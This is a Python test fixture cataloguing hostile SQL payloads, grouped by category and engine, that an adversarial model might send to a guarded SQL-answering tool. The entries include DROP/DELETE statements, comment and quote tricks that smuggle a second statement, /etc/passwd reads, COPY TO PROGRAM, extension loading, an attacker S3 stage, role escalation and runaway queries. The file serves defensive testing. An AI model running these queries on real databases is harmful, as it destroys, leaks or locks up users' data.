"""The catalogue of attack payloads a hostile model sends (tests/hostile/test_adversarial_model.py).

Each payload names the engines it targets (``"all"`` or a tuple of dialect names), its SQL and its
category. ``{dir}`` in the SQL stands for a world-writable scratch directory (outside pytest's private
tmp tree, so that the PostgreSQL server, running as ``postgres``, could write there if a guard failed);
the test checks that no file appears in it.

Expected outcome: every payload is refused (by the statement guard or the engine guard), rejected by
the engine, or stopped by the statement timeout; ``resource`` payloads may also end as an answer cut at
``row_cap``. ``inert_on`` lists the engines on which a payload is, by that engine's own grammar, one
harmless query (for example a DROP inside a comment): there an answer is allowed too, and the data
checksum still has to prove it. Refusal is always allowed.

Test-environment limits: fakesnow ignores Snowflake's statement timeout, so payloads that only end by a
timeout do not target Snowflake; an unbounded recursive CTE that returns its rows does not target
PostgreSQL, because psycopg would buffer every row produced before ``statement_timeout`` fires.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from verifiedsql import backends

DIALECTS = backends.names()  # every registered engine (verifiedsql/backends/)
ALL: Literal["all"] = "all"

CATEGORIES = (
    "dml",                 # INSERT, UPDATE, DELETE, MERGE, upserts
    "ddl",                 # CREATE, DROP, ALTER, TRUNCATE, GRANT, ...
    "several statements",  # a read followed by a write, transaction control
    "dml in cte",          # WITH x AS (INSERT/UPDATE/DELETE ... RETURNING) SELECT ...
    "hidden",              # statements hidden behind comments or string quoting
    "quoted name",         # a deny-listed function called through a quoted identifier
    "file",                # file reads and writes: COPY, ATTACH, read_csv, pg_read_file, PUT/GET, stages
    "extension",           # load_extension, INSTALL/LOAD, CREATE EXTENSION
    "network",             # dblink, http/s3 paths
    "session/admin",       # SET, PRAGMA, set_config, backend and server control
    "procedure",           # CALL, EXECUTE IMMEDIATE, DO, PREPARE/EXECUTE
    "resource",            # cartesian products, unbounded recursion, sleeps
)


@dataclass(frozen=True)
class Payload:
    """One attack: what the model replies with, on which engines, and why."""

    id: str
    category: str
    dialects: tuple[str, ...] | Literal["all"]
    sql: str
    inert_on: tuple[str, ...] = ()

    def targets(self) -> tuple[str, ...]:
        """The engines this payload is sent to."""
        return DIALECTS if self.dialects == ALL else self.dialects

    def render(self, directory: Path) -> str:
        """The SQL with ``{dir}`` replaced by ``directory``."""
        return self.sql.replace("{dir}", str(directory))


_P = Payload
PG, DUCK, LITE, SNOW = ("postgresql",), ("duckdb",), ("sqlite",), ("snowflake",)
NOT_SNOW = ("sqlite", "duckdb", "postgresql")
CARTESIAN_8 = ", ".join(f"orders {alias}" for alias in "abcdefgh")

PAYLOADS: tuple[Payload, ...] = (
    # ------------------------------------------------------------------------------------------- dml
    _P("insert-row", "dml", ALL, "INSERT INTO customers (id, name) VALUES (999, 'Mallory')"),
    _P("insert-select", "dml", ALL, "INSERT INTO orders SELECT id + 100, customer_id, amount, status FROM orders"),
    _P("update-all", "dml", ALL, "UPDATE orders SET amount = 0"),
    _P("update-from", "dml", ALL,
       "UPDATE orders SET status = 'refunded' FROM customers WHERE orders.customer_id = customers.id"),
    _P("delete-all", "dml", ALL, "DELETE FROM orders"),
    _P("upsert", "dml", NOT_SNOW,
       "INSERT INTO customers (id, name) VALUES (1, 'Mallory') ON CONFLICT (id) DO UPDATE SET name = 'Mallory'"),
    _P("insert-or-replace", "dml", ("sqlite", "duckdb"),
       "INSERT OR REPLACE INTO customers (id, name) VALUES (1, 'Mallory')"),
    _P("merge-delete", "dml", ("duckdb", "postgresql", "snowflake"),
       "MERGE INTO customers c USING orders o ON c.id = o.id WHEN MATCHED THEN DELETE"),
    _P("insert-overwrite", "dml", SNOW, "INSERT OVERWRITE INTO orders SELECT * FROM orders WHERE 1 = 0"),
    # ------------------------------------------------------------------------------------------- ddl
    _P("drop-table", "ddl", ALL, "DROP TABLE orders"),
    _P("drop-cascade", "ddl", ("duckdb", "postgresql", "snowflake"), "DROP TABLE IF EXISTS customers CASCADE"),
    _P("create-table-as", "ddl", ALL, "CREATE TABLE stolen AS SELECT * FROM customers"),
    _P("create-or-replace", "ddl", ("duckdb", "snowflake"), "CREATE OR REPLACE TABLE orders AS SELECT 1 AS x"),
    _P("alter-add-column", "ddl", ALL, "ALTER TABLE customers ADD COLUMN evil INTEGER"),
    _P("alter-rename", "ddl", ALL, "ALTER TABLE orders RENAME TO orders_old"),
    _P("truncate", "ddl", ("duckdb", "postgresql", "snowflake"), "TRUNCATE TABLE orders"),
    _P("create-index", "ddl", ALL, "CREATE INDEX evil_idx ON customers (name)"),
    _P("create-trigger", "ddl", LITE,
       "CREATE TRIGGER wipe AFTER INSERT ON orders BEGIN DELETE FROM customers; END"),
    _P("select-into", "ddl", PG, "SELECT * INTO stolen FROM customers"),
    _P("grant", "ddl", ("postgresql", "snowflake"), "GRANT ALL ON customers TO PUBLIC"),
    _P("create-secret", "ddl", DUCK, "CREATE SECRET evil (TYPE s3, KEY_ID 'x', SECRET 'y')"),
    # ---------------------------------------------------------------------------- several statements
    _P("select-then-drop", "several statements", ALL, "SELECT 1; DROP TABLE orders"),
    _P("read-delete-read", "several statements", ALL, "SELECT name FROM customers; DELETE FROM orders; SELECT 1"),
    _P("commit-then-delete", "several statements", ALL, "COMMIT; DELETE FROM orders"),
    _P("semicolon-in-string", "several statements", ALL, "SELECT ';' AS s; DELETE FROM orders"),
    _P("begin-write-commit", "several statements", ALL, "BEGIN; UPDATE customers SET name = 'Mallory'; COMMIT"),
    # ------------------------------------------------------------------------------------ dml in cte
    _P("cte-insert-returning", "dml in cte", ALL,
       "WITH x AS (INSERT INTO customers (id, name) VALUES (999, 'Mallory') RETURNING *) SELECT * FROM x"),
    _P("cte-delete", "dml in cte", ALL, "WITH d AS (DELETE FROM orders RETURNING id) SELECT COUNT(*) FROM d"),
    _P("cte-update", "dml in cte", ALL,
       "WITH u AS (UPDATE customers SET name = 'Mallory' RETURNING id) SELECT * FROM u"),
    _P("cte-unreferenced-delete", "dml in cte", PG,
       "WITH r AS (SELECT 1 AS i), d AS (DELETE FROM orders RETURNING id) SELECT i FROM r"),
    _P("cte-then-insert", "dml in cte", ALL,
       "WITH x AS (SELECT 999 AS id, 'Mallory' AS name) INSERT INTO customers (id, name) SELECT id, name FROM x"),
    # ---------------------------------------------------------------------------------------- hidden
    _P("block-comment-then-drop", "hidden", ALL, "SELECT 1 /* harmless */; DROP TABLE orders"),
    _P("line-comment-then-delete", "hidden", ALL, "SELECT 1 -- harmless\n; DELETE FROM orders"),
    _P("line-comment-hides-select", "hidden", ALL, "-- SELECT 1\nDROP TABLE customers"),
    _P("block-comment-prefix", "hidden", ALL, "/* SELECT 1 */ DELETE FROM orders"),
    _P("drop-inside-comment", "hidden", ALL, "SELECT 1 AS one /* ; DROP TABLE orders; */", inert_on=DIALECTS),
    # SQLite ends a -- comment only at \n, PostgreSQL also at \r: each engine must agree with the guard.
    _P("carriage-return-comment", "hidden", ALL, "SELECT 1 AS one -- note\r; DROP TABLE orders", inert_on=LITE),
    # A backslash escapes a quote only in Snowflake strings; elsewhere the string ends at \'.
    _P("backslash-quote", "hidden", ALL, "SELECT 'a\\'; DROP TABLE orders; --' AS s", inert_on=SNOW),
    _P("dollar-quote", "hidden", ALL, "SELECT $$; DROP TABLE orders; $$ AS s",
       inert_on=("duckdb", "postgresql", "snowflake")),
    _P("nested-comment", "hidden", ALL, "SELECT 1 AS one /* /* nested */ ; DROP TABLE orders */",
       inert_on=("duckdb", "postgresql")),
    # A probe's LIMIT is added by re-rendering the SQL, which turns the -- comment into /* ... */.
    _P("comment-rewrite-breakout", "hidden", ALL, "SELECT 1 AS one -- */ ; DROP TABLE orders; /*", inert_on=DIALECTS),
    _P("e-string-escape", "hidden", PG, "SELECT E'\\''; DROP TABLE orders; --' AS s"),
    # ----------------------------------------------------------------------------------- quoted name
    _P("quoted-pg-sleep", "quoted name", PG, 'SELECT "pg_sleep"(5)'),
    _P("quoted-pg-read-file", "quoted name", PG, "SELECT \"pg_read_file\"('/etc/passwd')"),
    _P("quoted-set-config", "quoted name", PG,
       "SELECT \"set_config\"('default_transaction_read_only', 'off', false)"),
    _P("quoted-load-extension", "quoted name", LITE, "SELECT \"load_extension\"('{dir}/evil.so')"),
    _P("quoted-getenv", "quoted name", DUCK, "SELECT \"getenv\"('HOME')"),
    _P("quoted-system-wait", "quoted name", SNOW, 'SELECT "SYSTEM$WAIT"(5)'),
    # ------------------------------------------------------------------------------------------ file
    _P("sqlite-attach", "file", LITE, "ATTACH DATABASE '{dir}/evil.db' AS evil"),
    _P("sqlite-vacuum-into", "file", LITE, "VACUUM INTO '{dir}/copy.db'"),
    _P("sqlite-writefile", "file", LITE, "SELECT writefile('{dir}/pwned.txt', 'x')"),
    _P("sqlite-fsdir", "file", LITE, "SELECT name FROM fsdir('{dir}')"),
    _P("pg-copy-to-program", "file", PG, "COPY customers TO PROGRAM 'touch {dir}/pwned'"),
    _P("pg-copy-to-file", "file", PG, "COPY (SELECT * FROM customers) TO '{dir}/out.csv'"),
    _P("pg-copy-from-file", "file", PG, "COPY orders FROM '{dir}/secret.csv' WITH (FORMAT csv, HEADER)"),
    _P("pg-read-file", "file", PG, "SELECT pg_read_file('/etc/passwd')"),
    _P("pg-ls-dir", "file", PG, "SELECT * FROM pg_ls_dir('/')"),
    _P("pg-lo-export", "file", PG, "SELECT lo_export(lo_from_bytea(0, 'pwned'), '{dir}/lo.txt')"),
    _P("pg-lo-import", "file", PG, "SELECT lo_import('{dir}/secret.csv')"),
    _P("duckdb-copy-to", "file", DUCK, "COPY customers TO '{dir}/out.csv'"),
    _P("duckdb-copy-from", "file", DUCK, "COPY orders FROM '{dir}/secret.csv'"),
    _P("duckdb-export-database", "file", DUCK, "EXPORT DATABASE '{dir}/export'"),
    _P("duckdb-attach", "file", DUCK, "ATTACH '{dir}/evil.duckdb' AS evil"),
    _P("duckdb-read-csv", "file", DUCK, "SELECT * FROM read_csv('{dir}/secret.csv')"),
    _P("duckdb-replacement-scan", "file", DUCK, "SELECT * FROM '{dir}/secret.csv'"),
    _P("duckdb-read-text", "file", DUCK, "SELECT content FROM read_text('/etc/passwd')"),
    _P("snowflake-put", "file", SNOW, "PUT file://{dir}/secret.csv @~"),
    _P("snowflake-get", "file", SNOW, "GET @~/leak file://{dir}/"),
    _P("snowflake-copy-into-stage", "file", SNOW, "COPY INTO @~/leak FROM customers"),
    _P("snowflake-copy-into-table", "file", SNOW, "COPY INTO customers FROM @~/staged"),
    # ------------------------------------------------------------------------------------- extension
    _P("sqlite-load-extension", "extension", LITE, "SELECT load_extension('{dir}/evil.so')"),
    _P("pg-create-extension", "extension", PG, "CREATE EXTENSION IF NOT EXISTS dblink"),
    _P("duckdb-install", "extension", DUCK, "INSTALL httpfs"),
    _P("duckdb-load", "extension", DUCK, "LOAD httpfs"),
    # --------------------------------------------------------------------------------------- network
    _P("pg-dblink", "network", PG,
       "SELECT * FROM dblink('dbname=postgres', 'DELETE FROM orders RETURNING id') AS t(id int)"),
    _P("pg-dblink-exec", "network", PG, "SELECT dblink_exec('dbname=postgres', 'DROP TABLE orders')"),
    _P("duckdb-read-csv-http", "network", DUCK, "SELECT * FROM read_csv('http://127.0.0.1:9/data.csv')"),
    _P("duckdb-scan-https", "network", DUCK, "SELECT * FROM 'https://example.com/data.parquet'"),
    _P("duckdb-read-parquet-s3", "network", DUCK, "SELECT * FROM read_parquet('s3://bucket/data.parquet')"),
    _P("snowflake-create-stage", "network", SNOW, "CREATE STAGE leak URL = 's3://attacker-bucket/'"),
    # --------------------------------------------------------------------------------- session/admin
    _P("sqlite-pragma-writable-schema", "session/admin", LITE, "PRAGMA writable_schema = ON"),
    _P("sqlite-pragma-query-only-off", "session/admin", LITE, "PRAGMA query_only = OFF"),
    _P("pg-set-config", "session/admin", PG, "SELECT set_config('default_transaction_read_only', 'off', false)"),
    _P("pg-set-read-write", "session/admin", PG, "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"),
    _P("pg-terminate-backends", "session/admin", PG, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
    _P("pg-alter-system", "session/admin", PG, "ALTER SYSTEM SET fsync = off"),
    _P("pg-query-to-xml", "session/admin", PG,
       "SELECT query_to_xml('DELETE FROM orders RETURNING id', true, true, '')"),
    _P("pg-for-update", "session/admin", PG, "SELECT * FROM customers FOR UPDATE"),
    _P("duckdb-enable-external-access", "session/admin", DUCK, "SET enable_external_access = true"),
    _P("duckdb-getenv", "session/admin", DUCK, "SELECT getenv('HOME')"),
    _P("duckdb-query-function", "session/admin", DUCK, "SELECT * FROM query('DELETE FROM orders RETURNING id')"),
    _P("snowflake-alter-session", "session/admin", SNOW, "ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0"),
    _P("snowflake-use-role", "session/admin", SNOW, "USE ROLE ACCOUNTADMIN"),
    _P("snowflake-result-scan", "session/admin", SNOW, "SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))"),
    _P("analyze", "session/admin", NOT_SNOW, "ANALYZE"),
    _P("explain-analyze-delete", "session/admin", ("duckdb", "postgresql"), "EXPLAIN ANALYZE DELETE FROM orders"),
    # ------------------------------------------------------------------------------------- procedure
    _P("pg-do-block", "procedure", PG, "DO $$ BEGIN DELETE FROM orders; END $$"),
    _P("pg-prepare", "procedure", PG, "PREPARE wipe AS DELETE FROM orders"),
    _P("call", "procedure", ("duckdb", "postgresql", "snowflake"), "CALL wipe_orders()"),
    _P("duckdb-call-checkpoint", "procedure", DUCK, "CALL checkpoint()"),
    _P("snowflake-execute-immediate", "procedure", SNOW, "EXECUTE IMMEDIATE 'DELETE FROM orders'"),
    _P("snowflake-execute-immediate-block", "procedure", SNOW,
       "EXECUTE IMMEDIATE $$ BEGIN DELETE FROM orders; END; $$"),
    # -------------------------------------------------------------------------------------- resource
    _P("cartesian-count", "resource", NOT_SNOW, f"SELECT COUNT(*) FROM {CARTESIAN_8}"),
    _P("cartesian-pairs", "resource", ALL,
       "SELECT a.id AS first_id, b.id AS second_id, a.amount * b.amount AS product FROM orders a CROSS JOIN orders b"),
    # Not on fakesnow: it returns short rows for repeated column names (Database raises QueryError).
    _P("cartesian-rows", "resource", NOT_SNOW, "SELECT * FROM orders a, orders b, customers c, orders d"),
    _P("cartesian-sort", "resource", NOT_SNOW,
       "SELECT a.id FROM orders a, orders b, orders c, orders d, orders e ORDER BY random()"),
    _P("recursive-count", "resource", NOT_SNOW,
       "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r) SELECT COUNT(*) FROM r"),
    _P("recursive-rows", "resource", ("sqlite", "duckdb"),
       "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r) SELECT i FROM r"),
    _P("pg-series-count", "resource", PG, "SELECT COUNT(*) FROM generate_series(1, 10000000000)"),
    _P("duckdb-range-count", "resource", DUCK, "SELECT COUNT(*) FROM range(10000000000000)"),
    _P("pg-sleep", "resource", PG, "SELECT pg_sleep(30)"),
    _P("pg-sleep-qualified", "resource", PG, "SELECT pg_catalog.pg_sleep(30)"),
    _P("sqlite-zeroblob", "resource", LITE, "SELECT length(zeroblob(1000000000))"),
    _P("snowflake-system-wait", "resource", SNOW, "SELECT SYSTEM$WAIT(30)"),
)


def pairs() -> list[tuple[Payload, str]]:
    """Every (payload, engine) it targets, in catalogue order."""
    return [(payload, dialect) for payload in PAYLOADS for dialect in payload.targets()]


def _check_catalogue() -> None:
    ids = [p.id for p in PAYLOADS]
    duplicates = [i for i, n in Counter(ids).items() if n > 1]
    assert not duplicates, f"duplicate payload ids: {duplicates}"
    for payload in PAYLOADS:
        assert payload.category in CATEGORIES, payload
        assert set(payload.targets()) <= set(DIALECTS) and set(payload.inert_on) <= set(payload.targets()), payload


_check_catalogue()
